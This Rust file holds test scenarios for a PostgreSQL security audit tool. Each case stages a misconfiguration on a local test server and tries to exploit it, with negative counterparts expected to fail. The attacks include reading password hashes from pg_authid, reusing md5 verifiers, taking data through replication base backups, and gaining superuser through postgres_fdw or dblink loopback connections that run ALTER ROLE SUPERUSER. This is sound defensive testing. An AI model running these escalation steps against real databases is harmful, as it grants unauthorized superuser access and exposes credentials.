//! Credentials that are read, and connections from the server to itself.

use pgward_audit::paths::graph::Sink;
use pgward_audit::paths::mechanism::Mechanism;
use pgward_audit::rule::Versions;

use crate::scenario::{Act, Claim, End, NONE, Scenario};

pub(crate) const SCENARIOS: &[Scenario] = &[
    Scenario {
        name: "credential_catalog",
        claim: Claim::Edge(Mechanism::CredentialCatalog, End::Sink(Sink::AllRead)),
        from: End::Role("credential_catalog_low"),
        own_database: false,
        applies: Versions::ALL,
        works: Versions::ALL,
        scene: r#"
            LOGIN credential_catalog_low;
            GRANT SELECT (rolname, rolpassword) ON pg_authid TO credential_catalog_low;
        "#,
        acts: &[Act::LowSees(
            "credential_catalog_low",
            r#"SELECT count(*) > 0 FROM (SELECT rolpassword FROM pg_authid WHERE rolpassword IS NOT NULL) s"#,
            r#"t"#,
        )],
    },
    Scenario {
        name: "credential_other_column",
        claim: Claim::Edge(Mechanism::CredentialCatalog, End::Sink(Sink::AllRead)),
        from: End::Role("credential_other_column_low"),
        own_database: false,
        applies: Versions::ALL,
        works: NONE,
        scene: r#"
            LOGIN credential_other_column_low;
            GRANT SELECT (rolname) ON pg_authid TO credential_other_column_low;
        "#,
        acts: &[Act::Low("credential_other_column_low", r#"SELECT rolpassword FROM pg_authid"#)],
    },
    Scenario {
        name: "verifier_md5",
        claim: Claim::Edge(Mechanism::Md5Verifier, End::Sink(Sink::Superuser)),
        from: End::Sink(Sink::AllRead),
        own_database: false,
        applies: Versions::ALL,
        works: Versions::ALL,
        scene: r#"
            LOGIN verifier_md5_low;
            GRANT pg_read_all_data TO verifier_md5_low;
            SET password_encryption = md5; SET client_min_messages = error; CREATE ROLE verifier_md5_root SUPERUSER LOGIN PASSWORD 'nobody knows this';
        "#,
        acts: &[Act::LogsInByMd5("verifier_md5_root", "verifier_md5_low")],
    },
    Scenario {
        name: "base_backup",
        claim: Claim::Edge(Mechanism::BaseBackup, End::Sink(Sink::AllRead)),
        from: End::Role("base_backup_low"),
        own_database: false,
        applies: Versions::ALL,
        works: Versions::ALL,
        scene: r#"
            LOGIN base_backup_low;
            ALTER ROLE base_backup_low REPLICATION; CREATE TABLE base_backup_t (v text);
            INSERT INTO base_backup_t VALUES ('a row nobody granted'); CHECKPOINT;
        "#,
        acts: &[Act::BackupHolds("base_backup_low", "a row nobody granted")],
    },
    Scenario {
        name: "base_backup_denied",
        claim: Claim::Edge(Mechanism::BaseBackup, End::Sink(Sink::AllRead)),
        from: End::Role("base_backup_denied_low"),
        own_database: false,
        applies: Versions::ALL,
        works: NONE,
        scene: r#"
            LOGIN base_backup_denied_low;
        "#,
        acts: &[Act::BackupHolds("base_backup_denied_low", "a row nobody granted")],
    },
    Scenario {
        name: "base_backup_database",
        claim: Claim::Edge(Mechanism::BaseBackup, End::Sink(Sink::AllRead)),
        from: End::Role("base_backup_database_low"),
        own_database: false,
        applies: Versions::ALL,
        works: Versions::ALL,
        scene: r#"
            LOGIN base_backup_database_low;
            ALTER ROLE base_backup_database_low REPLICATION; CREATE TABLE base_backup_database_t (v text);
            INSERT INTO base_backup_database_t VALUES ('a row of another'); CHECKPOINT;
        "#,
        // No line for replication lets it in; that of the database does. PostgreSQL 14 knows the second form only.
        acts: &[Act::LowSees(
            "base_backup_database_low",
            r#"\! "{psql}" -X "host=127.0.0.1 port={port} user=base_backup_database_low dbname=field replication=database sslmode=require" -c "BASE_BACKUP (CHECKPOINT 'fast', WAIT false)" -c "BASE_BACKUP FAST NOWAIT" 2>&1 | grep -a -c -m 1 'a row of another'"#,
            r#"1"#,
        )],
    },
    Scenario {
        name: "base_backup_kept_out",
        claim: Claim::Edge(Mechanism::BaseBackup, End::Sink(Sink::AllRead)),
        from: End::Role("base_backup_kept_out_low"),
        own_database: false,
        applies: Versions::ALL,
        works: NONE,
        scene: r#"
            LOGIN base_backup_kept_out_low;
            ALTER ROLE base_backup_kept_out_low REPLICATION;
        "#,
        acts: &[Act::Low("base_backup_kept_out_low", r#"SELECT 1"#)],
    },
    Scenario {
        name: "trust_line",
        claim: Claim::Edge(Mechanism::TrustLine, End::Role("trust_line_victim")),
        from: End::Public,
        own_database: false,
        applies: Versions::ALL,
        works: Versions::ALL,
        scene: r#"
            LOGIN trust_line_low;
            LOGIN trust_line_victim;
        "#,
        acts: &[Act::LowSees(
            "trust_line_low",
            r#"\connect "host=127.0.0.1 port={port} dbname=field user=trust_line_victim sslmode=disable"
SELECT current_user"#,
            r#"trust_line_victim"#,
        )],
    },
    Scenario {
        name: "trust_line_reject",
        claim: Claim::Edge(Mechanism::TrustLine, End::Role("trust_line_reject_victim")),
        from: End::Public,
        own_database: false,
        applies: Versions::ALL,
        works: NONE,
        scene: r#"
            LOGIN trust_line_reject_low;
            LOGIN trust_line_reject_victim;
        "#,
        acts: &[Act::LowSees(
            "trust_line_reject_low",
            r#"\connect "host=127.0.0.1 port={port} dbname=field user=trust_line_reject_victim sslmode=disable"
SELECT current_user"#,
            r#"trust_line_reject_victim"#,
        )],
    },
    Scenario {
        name: "credential_view",
        claim: Claim::Edge(Mechanism::CredentialCatalog, End::Sink(Sink::AllRead)),
        from: End::Role("credential_view_low"),
        own_database: false,
        applies: Versions::ALL,
        works: Versions::ALL,
        scene: r#"
            LOGIN credential_view_low;
            CREATE VIEW credential_view_all AS SELECT * FROM pg_authid;
            CREATE VIEW credential_view_some AS SELECT rolname, rolpassword AS word FROM credential_view_all;
            GRANT SELECT ON credential_view_some TO credential_view_low;
        "#,
        acts: &[Act::LowSees(
            "credential_view_low",
            r#"SELECT word IS NOT NULL FROM credential_view_some WHERE rolname = 'credential_view_low'"#,
            r#"t"#,
        )],
    },
    Scenario {
        name: "credential_view_narrow",
        claim: Claim::Edge(Mechanism::CredentialCatalog, End::Sink(Sink::AllRead)),
        from: End::Role("credential_view_narrow_low"),
        own_database: false,
        applies: Versions::ALL,
        works: NONE,
        scene: r#"
            LOGIN credential_view_narrow_low;
            CREATE VIEW credential_view_narrow_all AS SELECT * FROM pg_authid;
            CREATE VIEW credential_view_narrow_some AS SELECT rolname FROM credential_view_narrow_all;
            GRANT SELECT ON credential_view_narrow_some TO credential_view_narrow_low;
        "#,
        acts: &[Act::Low(
            "credential_view_narrow_low",
            r#"SELECT rolpassword FROM credential_view_narrow_some"#,
        )],
    },
    Scenario {
        name: "foreign_loopback",
        claim: Claim::Edge(Mechanism::ForeignLoopback, End::Sink(Sink::Superuser)),
        from: End::Role("foreign_loopback_low"),
        own_database: false,
        applies: Versions::ALL,
        works: Versions::ALL,
        scene: r#"
            LOGIN foreign_loopback_low;
            CREATE EXTENSION IF NOT EXISTS postgres_fdw; CREATE SCHEMA foreign_loopback AUTHORIZATION foreign_loopback_low;
            CREATE SERVER foreign_loopback FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host '127.0.0.1', port '{port}', dbname 'field', sslmode 'disable');
            GRANT USAGE ON FOREIGN SERVER foreign_loopback TO foreign_loopback_low;
            CREATE USER MAPPING FOR foreign_loopback_low SERVER foreign_loopback OPTIONS (user 'postgres', password_required 'false');
        "#,
        acts: &[
            Act::Low(
                "foreign_loopback_low",
                r#"CREATE FOREIGN TABLE foreign_loopback.roles (rolname name, rolsuper boolean) SERVER foreign_loopback OPTIONS (schema_name 'pg_catalog', table_name 'pg_authid')"#,
            ),
            Act::Low(
                "foreign_loopback_low",
                r#"UPDATE foreign_loopback.roles SET rolsuper = true WHERE rolname = 'foreign_loopback_low'"#,
            ),
            Act::IsSuperuser("foreign_loopback_low"),
        ],
    },
    Scenario {
        name: "foreign_password",
        claim: Claim::Edge(Mechanism::ForeignLoopback, End::Sink(Sink::Superuser)),
        from: End::Role("foreign_password_low"),
        own_database: false,
        applies: Versions::ALL,
        works: NONE,
        scene: r#"
            LOGIN foreign_password_low;
            CREATE EXTENSION IF NOT EXISTS postgres_fdw; CREATE SCHEMA foreign_password AUTHORIZATION foreign_password_low;
            CREATE SERVER foreign_password FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host '127.0.0.1', port '{port}', dbname 'field', sslmode 'disable');
            GRANT USAGE ON FOREIGN SERVER foreign_password TO foreign_password_low;
            CREATE USER MAPPING FOR foreign_password_low SERVER foreign_password OPTIONS (user 'postgres');
        "#,
        acts: &[
            Act::Low(
                "foreign_password_low",
                r#"CREATE FOREIGN TABLE foreign_password.roles (rolname name, rolsuper boolean) SERVER foreign_password OPTIONS (schema_name 'pg_catalog', table_name 'pg_authid')"#,
            ),
            Act::Low(
                "foreign_password_low",
                r#"UPDATE foreign_password.roles SET rolsuper = true WHERE rolname = 'foreign_password_low'"#,
            ),
            Act::IsSuperuser("foreign_password_low"),
        ],
    },
    Scenario {
        name: "dblink_loopback",
        claim: Claim::Edge(Mechanism::DblinkLoopback, End::Sink(Sink::Superuser)),
        from: End::Role("dblink_loopback_low"),
        own_database: false,
        applies: Versions::ALL,
        works: Versions::ALL,
        scene: r#"
            LOGIN dblink_loopback_low;
            CREATE EXTENSION IF NOT EXISTS dblink; GRANT EXECUTE ON FUNCTION dblink_connect_u(text) TO dblink_loopback_low;
        "#,
        acts: &[
            Act::Low(
                "dblink_loopback_low",
                r#"SELECT dblink_connect_u('host=127.0.0.1 port={port} user=postgres dbname=field sslmode=disable'); SELECT dblink_exec('ALTER ROLE dblink_loopback_low SUPERUSER')"#,
            ),
            Act::IsSuperuser("dblink_loopback_low"),
        ],
    },
    Scenario {
        name: "dblink_plain",
        claim: Claim::Edge(Mechanism::DblinkLoopback, End::Sink(Sink::Superuser)),
        from: End::Role("dblink_plain_low"),
        own_database: false,
        applies: Versions::ALL,
        works: NONE,
        scene: r#"
            LOGIN dblink_plain_low;
            CREATE EXTENSION IF NOT EXISTS dblink;
        "#,
        acts: &[
            Act::Low(
                "dblink_plain_low",
                r#"SELECT dblink_connect('host=127.0.0.1 port={port} user=postgres dbname=field sslmode=disable'); SELECT dblink_exec('ALTER ROLE dblink_plain_low SUPERUSER')"#,
            ),
            Act::IsSuperuser("dblink_plain_low"),
        ],
    },
];
